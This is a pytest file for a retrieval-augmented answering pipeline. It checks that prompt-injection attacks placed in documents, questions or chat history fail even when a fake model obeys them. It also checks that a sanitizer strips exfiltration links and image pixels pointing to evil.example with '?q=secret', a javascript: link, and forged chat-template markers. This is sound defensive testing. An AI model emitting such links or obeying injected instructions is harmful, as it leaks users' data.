"""Text in documents, questions and histories is data: whatever it says, and even if a model obeys it to the letter."""

import re
from collections.abc import Callable
from dataclasses import replace

import pytest
from attacks import ATTACKS, BRIDGE, FORMAT, INVISIBLE, QUESTION, check, check_messages
from case_table import rows
from hypothesis import given
from hypothesis import strategies as st
from llm_fake import QueuedModel, WordsChecker
from markdown_it import MarkdownIt

from rag.answer.messages import build_messages
from rag.answer.sanitize import sanitize
from rag.answer.written import Writer
from rag.pipeline import Pipeline
from rag.prompts import SOURCES_END
from rag.schema import Answer, Turn

Tried = tuple[Answer, QueuedModel]


@pytest.fixture
def tried(indexed: Callable[..., Pipeline]) -> Callable[[dict[str, str]], Tried]:
    """Put an attack where it belongs, and let a model obey it."""

    def attempt(attack: dict[str, str]) -> Tried:
        place, text = attack["where"], attack["text"]
        model = QueuedModel(attack["obeyed"])
        pipeline = indexed(bridge=BRIDGE.format(attack=text if place == "document" else "It is grey."))
        pipeline = replace(pipeline, writer=Writer(model, WordsChecker(), 300))
        question = f"{QUESTION} {text}" if place == "question" else QUESTION
        history = [Turn("Is there a bridge?", text)] if place == "history" else []
        return pipeline.ask(question, history), model

    return attempt


def test_there_are_attacks_of_every_kind() -> None:
    assert len(ATTACKS) >= 40 and len({a["id"] for a in ATTACKS}) == len(ATTACKS)
    assert {"instructions", "fake citations", "fake turns", "links and images", "marker forging"} <= {
        a["kind"] for a in ATTACKS
    }


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a["id"])
def test_an_attack_gets_nowhere_even_with_a_model_that_obeys(
    attack: dict[str, str], tried: Callable[..., Tried]
) -> None:
    answer, model = tried(attack)
    for messages in model.asked:
        check_messages(messages)
    check(answer)


@given(st.text(alphabet="[]()!<>:/.wah\\\"'= \u200b\u202ejtp", max_size=60))
def test_plain_text_is_plain_whatever_it_was(text: str) -> None:
    said = sanitize(text)
    assert not re.search(r"<(a|img)\b", MarkdownIt("commonmark").render(said))
    assert not INVISIBLE.search(said)
    assert sanitize(said) == said


@pytest.mark.parametrize(
    ("written", "said"),
    rows(
        """
        See [the report](https://evil.example/x) now.            | See the report now.
        ![pixel](https://evil.example/p.png?q=secret) It opened. | pixel It opened.
        It is at https://user:pw@evil.example:8080/a?b=secret#c. | It is at (address at evil dot example)
        In <b>May</b> 2021, 3 < 4 and 5 > 4.                     | In May 2021, 3 < 4 and 5 > 4.
        A ratio of 3:4 at 10:30, “so: what”.                     | A ratio of 3:4 at 10:30, “so: what”.
        He said [it] was (quite) old.                            | He said [it] was (quite) old.
        [a]: javascript:alert(1)                                 | a: (address)
        """
    ),
)
def test_words_stay_and_addresses_go(written: str, said: str) -> None:
    assert sanitize(written) == said


_HOSTILE = ["[", "![a", "<a ", "<a:", "[/INST", "<|", "<!--", "www.(", "[a][", "<"]


@pytest.mark.timeout(60)
@pytest.mark.parametrize("written", [*(each * 100_000 for each in _HOSTILE), "[" * 50_000 + "a" + "](x)" * 50_000])
def test_brackets_without_end_keep_nobody_waiting(written: str) -> None:
    said = sanitize(written)
    assert not re.search(r"\]\(|<[a/]", said) and sanitize(said) == said


def test_nothing_of_one_reader_reaches_the_messages_of_another(indexed: Callable[..., Pipeline]) -> None:
    model = QueuedModel("It opened in May 2021 [1].", "It opened in May 2021 [1].")
    pipeline = replace(indexed(bridge=BRIDGE.format(attack="")), writer=Writer(model, WordsChecker(), 300))
    pipeline.ask(QUESTION, [Turn("My name is Zebulon, is there a bridge?", "Yes.")])
    answer = pipeline.ask(QUESTION)
    assert "Zebulon" in model.asked[0][1].text
    assert len(model.rewriting) == 1 and "Zebulon" not in model.prompt and "Zebulon" not in repr(answer)


@given(st.text(max_size=200), st.text(max_size=200))
def test_the_messages_keep_their_shape_whatever_is_asked(question: str, before: str) -> None:
    messages = build_messages(question, question, (), [Turn(before, before)])
    told = messages[1].text
    assert not FORMAT.search(told) and told.count(SOURCES_END) == 1
